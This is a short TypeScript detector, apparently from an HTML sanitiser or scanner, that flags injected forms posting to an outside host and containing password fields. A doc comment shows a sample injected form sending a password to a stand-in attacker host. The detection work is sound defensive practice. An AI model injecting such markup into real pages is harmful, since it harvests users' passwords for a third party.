// A form that a value brings along: no script at all, and what is typed into it goes to a stranger.

import { work } from '../../work.ts'
import { hostAt, valueAt } from './addresses.ts'

const BODY_MAX = 600
/** What looking through a form takes, and through its tag. */
const TAG_WORK = 200
const FORM_WORK = 1500

/** `<form action=https://evil.example><input type=password>` */
export const asksFor = (text: string, open: number, end: number): boolean => {
  work.left -= TAG_WORK
  const head = text.slice(open, Math.min(end, open + BODY_MAX)).toLowerCase()
  const action = valueAt(head, ' action', 0)
  if (action < 0 || hostAt(head, action) < 0) return false
  work.left -= FORM_WORK
  const body = text.slice(end, end + BODY_MAX).toLowerCase()
  const close = body.indexOf('</form')
  const within = close < 0 ? body : body.slice(0, close)
  return PASSWORDS.some((type) => within.includes(type))
}

const PASSWORDS: readonly string[] = [' type=password', ' type="password"', " type='password'"]
